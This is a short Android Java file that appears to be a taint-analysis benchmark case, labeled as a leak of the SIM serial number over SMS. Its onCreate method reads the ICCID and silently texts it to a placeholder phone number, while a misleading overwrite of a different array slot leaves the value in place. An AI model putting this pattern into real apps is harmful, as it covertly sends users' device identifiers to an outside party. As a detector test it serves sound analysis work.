// about       Another place of the array is overwritten; the value stays and is sent.
// leak        DEV_ICCID sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private static void hide(String[] words, int place) {
    words[place] = "none";
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String[] words = {"card", phone.getSimSerialNumber()};
    // Not the place of the value.
    hide(words, 0);
    String text = words[0] + " " + words[1];
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
